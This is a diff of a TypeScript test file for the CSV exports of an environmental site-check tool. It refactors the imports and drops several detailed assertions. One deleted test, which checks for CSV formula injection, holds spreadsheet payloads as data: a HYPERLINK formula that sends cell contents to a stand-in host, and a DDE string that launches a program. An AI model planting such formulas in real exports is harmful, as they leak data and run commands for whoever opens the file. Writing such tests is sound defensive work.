@@ -1,15 +1,16 @@
 /**
  * CSV and GeoJSON exports of the site check, on results the real spatial core gives on the
- * bundled sample data. The CSV is read back with an independent RFC 4180 parser.
+ * bundled sample data. The CSV is read back with an independent RFC 4180 parser; its exact
+ * wording is checked against hand-written text in present-csv.test.ts.
  */
 import { describe, expect, it } from 'vitest';
 import type { Geometry } from 'geojson';
-import { M2_PER_MU, roundTo, type SiteCheckResult } from '../../src/geo/index';
-import { fixed, guardCell, reportFileName, siteCheckCsv, siteCheckGeoJson, toCsv } from '../../src/ui/report/report-export';
-import { check, square, translator, unitFeatures } from './report-helpers';
-
-const zh = translator('zh');
-const en = translator('en');
+import { M2_PER_MU, type SiteCheckResult } from '../../src/geo/index';
+import { reportFileName } from '../../src/present/file-name';
+import { siteCheckCsv } from '../../src/present/site-csv';
+import { siteCheckGeoJson } from '../../src/present/site-geojson';
+import { siteReport } from '../../src/present/site-report';
+import { check, square, unitFeatures } from './report-helpers';
 
 /** Minimal RFC 4180 reader: CRLF records, quoted fields with doubled quotes. */
 function parseCsv(text: string): string[][] {
@@ -43,133 +44,35 @@ const pointResult = check(pointSite);
 const lineSite: Geometry = { type: 'LineString', coordinates: [[108.3, 30.75], [108.45, 30.85]] };
 const lineResult = check(lineSite);
 
-const HEAD_ZH = ['类别', '项目', '编码', '名称', '数值', '单位', '说明'];
 const body = (rows: string[][], category: string) => rows.filter((r) => r[0] === category);
 
-describe('siteCheckCsv', () => {
-  const text = siteCheckCsv(bigResult, zh, 'zh', { datasetName: '重庆市（示例数据）', generated: '2024-06-30 14:05' });
+describe('siteCheckCsv on real results', () => {
+  const text = siteCheckCsv(siteReport(bigResult, 'zh', true), { datasetName: '重庆市（示例数据）', generated: '2024-06-30 14:05' });
   const rows = parseCsv(text.slice(1));
 
-  it('UTF-8 BOM, CRLF after every record, no bare LF, 7 columns, localized header', () => {
-    expect(text.charCodeAt(0)).toBe(0xfeff);
-    expect(text.endsWith('\r\n')).toBe(true);
+  it('reads back as 7 columns per record, with no bare line break', () => {
     expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
-    expect(rows[0]).toEqual(HEAD_ZH);
     for (const r of rows) expect(r).toHaveLength(7);
-    const enRows = parseCsv(siteCheckCsv(bigResult, en, 'en').slice(1));
-    expect(enRows[0]).toEqual(['Category', 'Item', 'Code', 'Name', 'Value', 'Unit', 'Note']);
+    expect(parseCsv(siteCheckCsv(siteReport(lineResult, 'en', true)).slice(1)).every((r) => r.length === 7)).toBe(true);
+    expect(parseCsv(siteCheckCsv(siteReport(pointResult, 'en', true)).slice(1)).every((r) => r.length === 7)).toBe(true);
   });
 
-  it('site summary: area in 平方米, 公顷, 亩 (m² / 666.67, 2 decimals) and km², perimeter, centroid to 6 decimals', () => {
-    const site = body(rows, '场地');
-    const area = site.filter((r) => r[1] === '面积');
-    const a = bigResult.site.areaM2;
-    expect(area.map((r) => r[5])).toEqual(['平方米', '公顷', '亩', '平方公里']);
-    expect(area[0]?.[4]).toBe(fixed(a, 2));
-    expect(area[1]?.[4]).toBe(fixed(a / 10000, 4));
-    expect(area[2]?.[4]).toBe(roundTo(a / M2_PER_MU, 2).toFixed(2));
-    expect(Math.abs(Number(area[2]?.[4]) - a / 666.67)).toBeLessThan(0.01 + a * 1e-6);
-    expect(area[3]?.[4]).toBe(fixed(a / 1e6, 6));
-    expect(site.find((r) => r[1] === '周长')?.[4]).toBe(fixed(bigResult.site.lengthM, 2));
-    expect(site.find((r) => r[1] === '中心点经度')?.[4]).toMatch(/^108\.\d{6}$/);
-    expect(site.find((r) => r[1] === '类型')?.[4]).toBe('面');
-    expect(body(rows, '数据')[0]?.[6]).toContain('示例数据');
-  });
-
-  it('亩 rounding: half away from zero on the decimal value', () => {
-    const r: SiteCheckResult = { ...squareResult, site: { ...squareResult.site, areaM2: 1000.005 * M2_PER_MU } };
-    const mu = body(parseCsv(siteCheckCsv(r, zh, 'zh').slice(1)), '场地').find((x) => x[5] === '亩');
-    expect(mu?.[4]).toBe('1000.01');
-  });
-
-  it('one row per unit touched, in the result order, with overlap m² and share', () => {
+  it('one row per unit touched, in the result order; the overlaps add up to the site area', () => {
     expect(bigResult.units.length).toBeGreaterThan(1);
     const units = body(rows, '涉及的管控单元');
     expect(units.map((r) => r[2])).toEqual(bigResult.units.map((u) => u.code));
-    bigResult.units.forEach((u, i) => {
-      expect(units[i]?.[3]).toBe(u.name);
-      expect(units[i]?.[4]).toBe(fixed(u.overlapAreaM2, 2));
-      expect(units[i]?.[5]).toBe('平方米');
-      expect(units[i]?.[6]).toContain(u.subtype);
-    });
     const sum = units.reduce((s, r) => s + Number(r[4]), 0);
-    expect(Math.abs(sum - bigResult.site.areaM2) / bigResult.site.areaM2).toBeLessThan(1e-3);
+    const area = Number(body(rows, '场地').find((r) => r[1] === '面积' && r[5] === '平方米')?.[4]);
+    expect(Math.abs(sum - area) / area).toBeLessThan(1e-3);
+    // 1 亩 = 10000/15 m²: the 亩 row agrees with the m² row to its 2 decimals
+    const mu = Number(body(rows, '场地').find((r) => r[1] === '面积' && r[5] === '亩')?.[4]);
+    expect(Math.abs(mu - (area * 15) / 10000)).toBeLessThan(0.01);
   });
 
-  it('nearest priority unit, rivers with bands, sections with class and relation, clauses with codes, verdict + disclaimer', () => {
-    const np = body(rows, '最近的优先保护单元');
-    expect(np).toEqual([['最近的优先保护单元', '距离', bigResult.nearestPriority?.code, bigResult.nearestPriority?.name, fixed(bigResult.nearestPriority?.distanceM ?? NaN, 2), '米', '']]);
-    const rivers = body(rows, '与主要河流的距离');
-    expect(rivers.map((r) => r[3])).toEqual(['长江', '嘉陵江', '乌江']);
-    expect(rivers[0]?.[6]).toBe('1 公里岸线带内：是；5 公里范围内：是');
-    expect(rivers[1]?.[6]).toBe('1 公里岸线带内：否；5 公里范围内：否');
-    const sections = body(rows, '附近的监测断面');
-    expect(sections.map((r) => r[2])).toEqual(bigResult.sections.map((s) => s.id));
-    for (const [i, s] of bigResult.sections.entries()) {
-      expect(sections[i]?.[4]).toBe(fixed(s.distanceM, 2));
-      expect(sections[i]?.[6]).toMatch(/水质 (Ⅰ|Ⅱ|Ⅲ|Ⅳ|Ⅴ|劣Ⅴ) 类；(上游|下游|同一河段|—)/);
-    }
-    const rules = body(rows, '生态环境准入清单');
-    const clauses = Object.values(bigResult.rules).flat();
-    expect(rules).toHaveLength(clauses.length);
-    expect(rules.map((r) => r[6])).toEqual(
-      (['spatial_layout', 'pollutant_discharge', 'risk_prevention', 'resource_efficiency'] as const).flatMap((d) => bigResult.rules[d].map((c) => c.text)),
-    );
-    expect(rules.map((r) => r[2])).toEqual(
-      (['spatial_layout', 'pollutant_discharge', 'risk_prevention', 'resource_efficiency'] as const).flatMap((d) => bigResult.rules[d].map((c) => c.codes.join('、'))),
-    );
-    const verdict = body(rows, '核查结论');
-    expect(verdict[0]?.slice(1, 5)).toEqual(['结论', bigResult.verdict.level, '', '需要注意']);
-    expect(verdict).toHaveLength(2 + bigResult.verdict.reasons.length);
-    expect(verdict.at(-1)?.[6]).toContain('不构成审批意见或法律意见');
-  });
-
-  it('point inside a priority unit: share of points, distance 0 and "inside"', () => {
-    const r = parseCsv(siteCheckCsv(pointResult, zh, 'zh').slice(1));
-    expect(body(r, '涉及的管控单元').map((x) => [x[1], x[2], x[4], x[5]])).toEqual([['点位占比', pointResult.units[0]?.code, '100.00', '%']]);
-    expect(body(r, '最近的优先保护单元')[0]?.slice(4)).toEqual(['0.00', '米', '场地位于该单元内（距离 0 米）']);
-    expect(body(r, '场地').some((x) => x[1] === '面积')).toBe(false);
-  });
-
-  it('line site: length and overlap lengths in metres', () => {
-    const r = parseCsv(siteCheckCsv(lineResult, en, 'en').slice(1));
-    const site = body(r, 'Site');
-    expect(site.find((x) => x[1] === 'Length')?.[4]).toBe(fixed(lineResult.site.lengthM, 2));
-    const units = body(r, 'Control units touched');
-    expect(units.map((x) => x[2])).toEqual(lineResult.units.map((u) => u.code));
-    expect(units.every((x) => x[1] === 'Overlap length' && x[5] === 'm')).toBe(true);
-    expect(body(r, 'Distance to the main rivers').map((x) => x[3])).toEqual(['Yangtze', 'Jialing River', 'Wu River']);
-  });
-
-  it('formula injection: data cells starting with = + - @ get an apostrophe; numbers do not', () => {
-    const evil = '=HYPERLINK("http://evil.example/?q="&A1,"点击")';
-    const u0 = squareResult.units[0];
-    if (!u0) throw new Error('no unit');
-    const r: SiteCheckResult = {
-      ...squareResult,
-      units: [{ ...u0, name: evil, subtype: '+SUM(1,2)' }],
-      rules: { ...squareResult.rules, spatial_layout: [{ text: '@cmd|" /C calc"!A0', codes: ['-2+3'] }] },
-    };
-    const text = siteCheckCsv(r, zh, 'zh');
-    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点击"")"`);
-    const rows = parseCsv(text.slice(1));
-    const unit = body(rows, '涉及的管控单元')[0];
-    expect(unit?.[3]).toBe(`'${evil}`);
-    expect(unit?.[6]?.startsWith('重点管控')).toBe(true); // note starts with the category, not the data
-    const rule = body(rows, '生态环境准入清单')[0];
-    expect(rule?.[6]).toBe(`'@cmd|" /C calc"!A0`);
-    expect(rule?.[2]).toBe(`'-2+3`);
-    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
-    expect(guardCell('-12.5')).toBe('-12.5');
-    expect(guardCell('-12.5e3')).toBe("'-12.5e3");
-    expect(guardCell('\t=1')).toBe("'\t=1");
-  });
-
-  it('RFC 4180 quoting round-trips commas, quotes and line breaks', () => {
-    const cells = ['a,b', 'say "hi"', 'two\r\nlines', 'one\nline', '', '中文，全角逗号'];
-    const out = toCsv([cells]);
-    expect(parseCsv(out.slice(1))).toEqual([cells]);
-    expect(out).toBe('\uFEFF"a,b","say ""hi""","two\r\nlines","one\nline",,中文，全角逗号\r\n');
+  it('sections and clauses follow the result; the nearest priority unit is named', () => {
+    expect(body(rows, '附近的监测断面').map((r) => r[2])).toEqual(bigResult.sections.map((s) => s.id));
+    expect(body(rows, '生态环境准入清单')).toHaveLength(Object.values(bigResult.rules).flat().length);
+    expect(body(rows, '最近的优先保护单元')[0]?.slice(2, 4)).toEqual([bigResult.nearestPriority?.code, bigResult.nearestPriority?.name]);
   });
 });
 
